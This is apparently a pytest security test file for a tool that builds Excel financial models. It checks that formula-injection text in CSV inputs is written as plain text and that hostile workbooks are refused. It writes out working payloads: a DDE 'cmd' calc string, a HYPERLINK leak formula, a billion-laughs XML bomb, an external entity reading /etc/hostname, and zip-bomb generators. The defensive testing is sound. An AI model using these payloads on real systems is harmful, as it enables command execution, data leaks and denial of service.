"""Hostile content: text in the data files that looks like a formula stays text in the workbook, and
workbooks read back (model/workbook/readback.py) are refused when they are not .xlsx, damaged, or bombs."""
import csv
import io
import re
import shutil
import subprocess
import sys
import zipfile
from xml.etree import ElementTree

import pytest

from conftest import copy_folder, ROOT, ZHIPU, require_engine
from model.workbook import readback
from model.workbook.build import build_book
from model.data.company import load
from model.workbook.readback import WorkbookError, open_workbook
from model.engine.verify import cached_values, compare
from model.workbook.writer import write_book

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# Formula injection payloads (CSV injection): each must reach the workbook as plain text.
PAYLOADS = {
    "title": '=HYPERLINK("http://example.invalid/?leak","click me")',
    "address": "+cmd|' /C calc'!A0",
    "rationale": "@SUM(1)",
    "claim": "-2+3",
    "unit": "=1+1",
}


def set_cell(path, row_match, column, value):
    """Set one cell of a CSV (the row whose first cells start with `row_match`), quoting as needed."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    i = rows[0].index(column)
    hits = [r for r in rows if ",".join(r).startswith(row_match)]
    assert len(hits) == 1, row_match
    hits[0][i] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    folder = tmp_path_factory.mktemp("inject") / "co"
    copy_folder(ZHIPU, folder)
    set_cell(folder / "sources.csv", "S4,", "title", PAYLOADS["title"])
    set_cell(folder / "sources.csv", "S5,", "address", PAYLOADS["address"])
    set_cell(folder / "assumptions.csv", "base,gm_cloud,", "rationale", PAYLOADS["rationale"])
    set_cell(folder / "reference.csv", "revenue,FY2022,", "claim", PAYLOADS["claim"])
    set_cell(folder / "actuals.csv", "revenue,FY2024,", "note", PAYLOADS["title"])   # becomes a cell comment
    toml = (folder / "company.toml").read_text(encoding="utf-8").replace('unit = "RMB 100m"', 'unit = "=1+1"')
    (folder / "company.toml").write_text(toml, encoding="utf-8")
    path = folder.parent / "model.xlsx"
    write_book(build_book(load(folder)), path)
    return path


def test_text_that_looks_like_a_formula_is_written_as_text(injected):
    with zipfile.ZipFile(injected) as z:
        formulas = [f for name in z.namelist() if name.startswith("xl/worksheets/sheet")
                    for f in re.findall(r"<f>(.*?)</f>", z.read(name).decode())]
        strings = {t.text for t in ElementTree.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{NS}t")}
        comments = {t.text for t in ElementTree.fromstring(z.read("xl/comments1.xml")).iter(f"{NS}t")}
    assert len(formulas) > 800
    for text in ("HYPERLINK", "cmd|", "@SUM", "-2+3", "=1+1"):
        assert not any(text in f for f in formulas), text
    assert set(PAYLOADS.values()) <= strings                        # written as text cells
    assert any(PAYLOADS["title"] in c for c in comments if c)        # the note, as comment text

    import openpyxl  # an independent reader: the cells are text, not formulas
    cells = {(ws.title, c.coordinate): c for ws in openpyxl.load_workbook(injected).worksheets for row in ws.iter_rows()
             for c in row if c.value in PAYLOADS.values()}
    assert {c.value for c in cells.values()} == set(PAYLOADS.values())
    assert {c.data_type for c in cells.values()} == {"s"}


def test_libreoffice_shows_the_text_not_a_formula_result(injected):
    require_engine()
    from model.engine.libreoffice import recalculate_file
    result = recalculate_file(injected)
    seen = {v: [] for v in PAYLOADS.values()}
    for sheet, cells in result["cells"].items():
        for addr, cell in cells.items():
            if cell["v"] in seen:
                seen[cell["v"]].append(cell["f"])
    assert all(flags and not any(flags) for flags in seen.values()), seen
    rep = compare(cached_values(injected), result)
    assert (rep.mismatches, rep.errors, rep.master) == ([], [], 0)


# --- hostile workbooks read back ------------------------------------------------------------------

@pytest.fixture(scope="module")
def good(tmp_path_factory):
    path = tmp_path_factory.mktemp("good") / "model.xlsx"
    write_book(build_book(load(ZHIPU)), path)
    return path


def variant(good, dst, parts=None, drop=()):
    """A copy of the workbook with some parts replaced or added (name -> bytes) and some dropped."""
    parts = dict(parts or {})
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename not in drop:
                zout.writestr(item.filename, parts.pop(item.filename, None) or zin.read(item.filename))
        for name, data in parts.items():
            zout.writestr(name, data)
    return dst


def billion_laughs(good):
    with zipfile.ZipFile(good) as z:
        xml = z.read("xl/workbook.xml").decode()
    ents = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    head, body = xml.split("?>", 1)
    return (head + f"?><!DOCTYPE workbook [{ents}]>" + body.replace("<sheets>", "<sheets>&a9;", 1)).encode()


def external_entity(good):
    with zipfile.ZipFile(good) as z:
        xml = z.read("xl/sharedStrings.xml").decode()
    head, body = xml.split("?>", 1)
    return (head + '?><!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/hostname">]>'
            + re.sub(r"<t>[^<]*</t>", "<t>&secret;</t>", body, count=1)).encode()


def put(path, data: bytes):
    path.write_bytes(data)
    return path


def zip_bomb(dst, size):
    """A valid-looking archive whose one sheet inflates to `size` bytes of zeros."""
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            chunk = b"\0" * 1_000_000
            for _ in range(size // len(chunk)):
                f.write(chunk)
    return dst


HOSTILE = {
    "text-file": (lambda good, p: put(p, b"not a workbook"), "not an .xlsx workbook, or a damaged one"),
    "truncated": (lambda good, p: put(p, good.read_bytes()[:5000]), "not an .xlsx workbook, or a damaged one"),
    "old-xls": (lambda good, p: put(p, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
                "an old-format (.xls) or password-protected workbook"),
    "zip-not-xlsx": (lambda good, p: variant(good, p, drop=[n for n in zipfile.ZipFile(good).namelist()],
                                             parts={"hello.txt": b"hi"}),
                     "not an .xlsx workbook (a zip archive without [Content_Types].xml)"),
    "damaged-sheet": (lambda good, p: variant(good, p, {"xl/worksheets/sheet2.xml": b"<worksheet><sheetData><row"}),
                      "cannot read the workbook: it is damaged or not an .xlsx (ExpatError: unclosed token"),
    "missing-part": (lambda good, p: variant(good, p, drop=["xl/workbook.xml"]), "cannot read the workbook"),
    "billion-laughs": (lambda good, p: variant(good, p, {"xl/workbook.xml": billion_laughs(good)}),
                       "refused: its XML has a document type declaration (DTD), as XML bombs do"),
    "external-entity": (lambda good, p: variant(good, p, {"xl/sharedStrings.xml": external_entity(good)}),
                        "refused: its XML has a document type declaration (DTD), as XML bombs do"),
    "zip-bomb-ratio": (lambda good, p: zip_bomb(p, 20_000_000), "expands 1,0"),   # ~1000x
    "zip-bomb-size": (lambda good, p: zip_bomb(p, readback.MAX_PART_BYTES + 1_000_000),
                      "the archive expands to more than 300 MB"),
    "oversized-file": (lambda good, p: put(p, b"PK\x03\x04" + b"\0" * readback.MAX_FILE_BYTES),
                       "is larger than the 50 MB"),
}


@pytest.mark.parametrize("reader", [open_workbook, readback.vet], ids=["open_workbook", "vet"])
@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_workbooks_are_refused_and_left_untouched(good, tmp_path, kind, reader):
    """Refused when read back, and by `vet`, which `check` runs before LibreOffice sees a file."""
    make, expected = HOSTILE[kind]
    path = make(good, tmp_path / f"{kind}.xlsx")
    before = path.read_bytes()
    with pytest.raises(WorkbookError) as e:
        reader(path)
    assert expected in str(e.value) and str(path) in str(e.value)
    assert path.read_bytes() == before


def test_a_good_workbook_reads_back(good):
    readback.vet(good)
    wb = open_workbook(good)
    assert wb.sheetnames[:2] == ["Cover", "Inputs"]
    assert wb["Income Statement"].cell(10, 3).value is not None


@pytest.mark.parametrize("kind", ["truncated", "billion-laughs", "damaged-sheet"])
def test_check_refuses_a_hostile_file_with_exit_code_2(good, tmp_path, kind):
    make, expected = HOSTILE[kind]
    path = make(good, tmp_path / f"{kind}.xlsx")
    before = path.read_bytes()
    res = subprocess.run([sys.executable, str(ROOT / "cli.py"), "check", str(path)], capture_output=True, text=True,
                         timeout=120)
    assert res.returncode == 2, res.stdout + res.stderr
    assert res.stderr.startswith(f"error: {path}") and expected in res.stderr and "Traceback" not in res.stderr
    assert path.read_bytes() == before


def test_build_leaves_a_hostile_file_at_the_output_path_alone(good, tmp_path):
    path = zip_bomb(tmp_path / "model.xlsx", 20_000_000)
    before = path.read_bytes()
    res = subprocess.run([sys.executable, str(ROOT / "cli.py"), "build", "--out", str(path)], capture_output=True,
                         text=True, timeout=120)
    assert res.returncode == 2, res.stderr
    assert "cannot carry edits over from the existing workbook" in res.stderr and "zip bomb" in res.stderr
    assert path.read_bytes() == before
